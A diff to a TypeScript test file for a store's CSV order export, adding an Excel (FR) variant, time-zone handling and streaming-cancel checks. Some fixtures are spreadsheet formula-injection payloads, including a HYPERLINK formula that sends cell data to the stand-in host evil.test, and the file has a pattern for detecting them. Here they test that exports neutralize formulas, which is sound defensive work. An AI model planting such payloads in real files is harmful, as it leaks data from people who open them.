@@ -5,14 +5,14 @@ import * as s from "@/db/schema";
 import { seedDemo } from "@/db/seed";
 import { newId } from "@/lib/ids";
 import { quoteLiteral } from "@/db/sql-literal";
-import { parseCsv } from "@/lib/testing/csv";
+import { csvText, parseCsv } from "@/lib/testing/csv";
 import { TEST_DATABASES, TEST_ENCRYPTION_KEY } from "@/lib/testing/databases";
 import { eventually, merchantId } from "@/lib/testing/payments";
-import { CSV_HEADER, ordersCsvStream } from "./csv";
+import { CSV_BOM, CSV_HEADER, ordersCsvStream, type CsvOptions, type CsvVariant } from "./csv";
 import { exportOrdersCsv } from "./csv-copy";
 import { encodeCursor, parseOrderFilters } from "./filters";
 
-const text = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();
+const text = csvText;
 
 /**
  * Characters a careless COPY text would choke on; no digit and no "@", so it is a name search.
@@ -101,12 +101,17 @@ async function addEdgeOrders(database: Database, slug: "demo" | "autre") {
 }
 
 
+const ABIDJAN: CsvOptions = { variant: "csv", timeZone: "Africa/Abidjan" };
 const postgresOnly = TEST_DATABASES.filter((d) => d.name === "postgres");
 
 describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
   let database: Database;
   const ids: Record<string, string> = {};
   const currencyOf = { demo: "XOF", autre: "KES" } as const;
+  // The seeded stores' zones: Abidjan (UTC+0) and Nairobi (UTC+3, where a late order is on the next day).
+  const zoneOf = { demo: "Africa/Abidjan", autre: "Africa/Nairobi" } as const;
+  const plain = (slug: "demo" | "autre"): CsvOptions => ({ variant: "csv", timeZone: zoneOf[slug] });
+  const excelFr = (slug: "demo" | "autre"): CsvOptions => ({ variant: "excel-fr", timeZone: zoneOf[slug] });
 
   beforeAll(async () => {
     database = await open();
@@ -153,33 +158,68 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
   ];
 
   for (const slug of ["demo", "autre"] as const) {
-    it.each(cases)(`${slug}: export is byte-identical to the keyset pages (%s)`, async (_label, raw) => {
-      const filters = parseOrderFilters(raw, currencyOf[slug]);
-      const keyset = await text(ordersCsvStream(database.db, ids[slug]!, filters, 37));
-      const exported = await text(exportOrdersCsv(database, ids[slug]!, filters));
-      expect(exported.startsWith(CSV_HEADER.join(",") + "\r\n")).toBe(true);
-      expect(exported).toBe(keyset);
-    });
+    for (const variant of ["csv", "excel-fr"] as CsvVariant[]) {
+      it.each(cases)(`${slug}, ${variant}: export is byte-identical to the keyset pages (%s)`, async (_label, raw) => {
+        const filters = parseOrderFilters(raw, currencyOf[slug]);
+        const options = { variant, timeZone: zoneOf[slug] };
+        const keyset = await text(ordersCsvStream(database.db, ids[slug]!, filters, options, 37));
+        const exported = await text(exportOrdersCsv(database, ids[slug]!, filters, options));
+        expect(exported.startsWith(CSV_BOM + CSV_HEADER.join(variant === "csv" ? "," : ";") + "\r\n")).toBe(true);
+        expect(exported).toBe(keyset);
+      });
+    }
   }
 
+  // Not store zones today, but the SQL and JS offsets must agree on a negative, a half-hour and a daylight-saving one.
+  it.each(["America/St_Johns", "Europe/Paris", "UTC"])("writes the same times in %s on both paths", async (timeZone) => {
+    const filters = parseOrderFilters({}, "KES");
+    const options = { variant: "csv" as const, timeZone };
+    const exported = await text(exportOrdersCsv(database, ids.autre!, filters, options));
+    expect(exported).toBe(await text(ordersCsvStream(database.db, ids.autre!, filters, options, 37)));
+    expect(exported).toMatch(timeZone === "UTC" ? /,2026-01-15T23:59:59\+00:00,/ : timeZone === "Europe/Paris" ? /,2026-01-16T00:59:59\+01:00,/ : /,2026-01-15T20:29:59-03:30,/);
+  });
+
   it("covers the cases that need care: quoting, empty strings, decimals, sources", async () => {
-    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, "KES")));
+    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, "KES"), plain("autre")));
     expect(autre).toContain('"Awa ""la patronne"", Abidjan"');
     expect(autre).toContain('"Line one\nline two\r\nand\rthree",,,KES,123.45,,,,');
     expect(autre).toMatch(/\r\nEAUTRE003,[^,]+,,,,KES,123\.45,,,,ipay,,failed,,,\r\n/);
     expect(autre).toContain(",KES,0.05,0.07,reported,-0.02,ipay,card,paid,\"MP,1\"\"2\",2026-12-02,reported\r\n");
     expect(autre).toContain(",123.45,200.00,estimated,-76.55,ipay,card,refunded,");
     expect(autre).toContain(",-0.03,ipay,card,partially_refunded,");
-    expect(autre).toContain("2026-01-15T23:59:59.999Z,\"C:\\caisse\\tab\there, ' quote\"");
+    // 23:59:59.999999 UTC is the next day in Nairobi; the fraction is dropped, not rounded.
+    expect(autre).toContain("2026-01-16T02:59:59+03:00,\"C:\\caisse\\tab\there, ' quote\"");
     expect(autre).toContain(",expired,");
-    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, "XOF")));
+    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, "XOF"), plain("demo")));
     expect(demo).toContain(",XOF,12345,350,estimated,11995,cinetpay,card,paid,,2026-12-01,estimated\r\n");
-    expect(demo).toContain("EDEMO009,2026-01-15T10:00:00.000Z,Tie A,");
+    expect(demo).toContain("EDEMO009,2026-01-15T10:00:00+00:00,Tie A,");
+  });
+
+  it("Excel (FR): byte-order mark, ';' between fields, decimal commas, times in the store's zone", async () => {
+    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, "KES"), excelFr("autre")));
+    expect(autre.startsWith("\ufeffreference;created_at;customer_name;")).toBe(true);
+    expect(autre).toContain(";KES;0,05;0,07;reported;-0,02;ipay;card;paid;\"MP,1\"\"2\";2026-12-02;reported\r\n");
+    expect(autre).toContain(";123,45;200,00;estimated;-76,55;ipay;card;refunded;");
+    // A comma is no separator here: left unquoted; a ';' is, and is quoted.
+    expect(autre).toContain("2026-01-16T02:59:59+03:00;C:\\caisse\\tab\there, ' quote;");
+    expect(autre).toContain(`;"Awa ${HOSTILE.replaceAll('"', '""')} Koné";`);
+    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, "XOF"), excelFr("demo")));
+    expect(demo).toContain(";XOF;12345;350;estimated;11995;cinetpay;card;paid;;2026-12-01;estimated\r\n");
+    expect(demo).toContain("EDEMO009;2026-01-15T10:00:00+00:00;Tie A;");
   });
 
   it("neutralizes formulas in free-text cells with a leading quote, leaving amounts and E.164 phones as they are", async () => {
     for (const slug of ["demo", "autre"] as const) {
-      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug])));
+      const fr = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug]), excelFr(slug)));
+      expect(fr).toContain(`'=1+2${slug};`);
+      expect(fr).toContain(`;'=cmd;paid;'+HYPERLINK(1);`);
+      for (const record of parseCsv(fr.slice(1), ";").slice(1)) {
+        for (const [i, field] of record.entries()) {
+          if (["amount", "fee", "net"].includes(CSV_HEADER[i]!)) continue;
+          expect(field, `${CSV_HEADER[i]} ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r](?![0-9]+(\.[0-9]+)?$)|^\s+[=+\-@]/);
+        }
+      }
+      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug]), plain(slug)));
       const currency = currencyOf[slug];
       expect(csv).toContain(`'=1+2${slug},`);
       expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Cliquez ici"")",'@SUM(1+1)@evil.test,'-2+3,${currency},`);
@@ -202,11 +242,11 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
 
   it("a hostile search string finds its order, as a name, and breaks nothing", async () => {
     for (const slug of ["demo", "autre"] as const) {
-      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, currencyOf[slug])));
+      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, currencyOf[slug]), plain(slug)));
       const lines = csv.split("\r\n").filter(Boolean);
       expect(lines).toHaveLength(2);
       expect(lines[1]).toContain(`E${slug.toUpperCase()}006,`);
-      const byRef = (await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE_REF }, currencyOf[slug])))).split("\r\n").filter(Boolean);
+      const byRef = (await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE_REF }, currencyOf[slug]), plain(slug)))).split("\r\n").filter(Boolean);
       expect(byRef).toHaveLength(2);
       expect(byRef[1]).toContain(`E${slug.toUpperCase()}011,`);
     }
@@ -258,7 +298,7 @@ describe.each(postgresOnly)("COPY export streaming on $name", ({ open }) => {
   });
 
   it("holds the server back while the client does not read, and a cancel stops the query and frees the connection", async () => {
-    const reader = exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF")).getReader();
+    const reader = exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN).getReader();
     let received = 0;
     while (received < 100_000) received += (await reader.read()).value!.length;
     // Backpressure reaches the server: its backend waits on the socket instead of filling our memory.
@@ -270,20 +310,20 @@ describe.each(postgresOnly)("COPY export streaming on $name", ({ open }) => {
     expect(backend!.self || backend!.state === "idle").toBe(true);
     // Both pool connections are usable again: two exports at once (each holds one) complete.
     const one = parseOrderFilters({ q: "B17" }, "XOF");
-    const [a, b] = await Promise.all([text(exportOrdersCsv(database, demo, one)), text(exportOrdersCsv(database, demo, one))]);
+    const [a, b] = await Promise.all([text(exportOrdersCsv(database, demo, one, ABIDJAN)), text(exportOrdersCsv(database, demo, one, ABIDJAN))]);
     expect(a).toBe(b);
-    expect(a).toBe(await text(ordersCsvStream(database.db, demo, one)));
+    expect(a).toBe(await text(ordersCsvStream(database.db, demo, one, ABIDJAN)));
   });
 
   it("a cancel before the first read or after the last row leaves nothing behind", async () => {
-    await exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF")).cancel();
-    const reader = exportOrdersCsv(database, demo, parseOrderFilters({ q: "B1234" }, "XOF")).getReader();
+    await exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN).cancel();
+    const reader = exportOrdersCsv(database, demo, parseOrderFilters({ q: "B1234" }, "XOF"), ABIDJAN).getReader();
     let all = "";
     for (let r = await reader.read(); !r.done; r = await reader.read()) all += new TextDecoder().decode(r.value);
     await reader.cancel();
     expect(all.split("\r\n").filter(Boolean)).toHaveLength(2);
     await eventually(activeCopies, (rows) => rows.length === 0);
-    const whole = await text(exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF")));
+    const whole = await text(exportOrdersCsv(database, demo, parseOrderFilters({}, "XOF"), ABIDJAN));
     expect(whole.split("\r\n").filter(Boolean)).toHaveLength(4001);
   });
 });
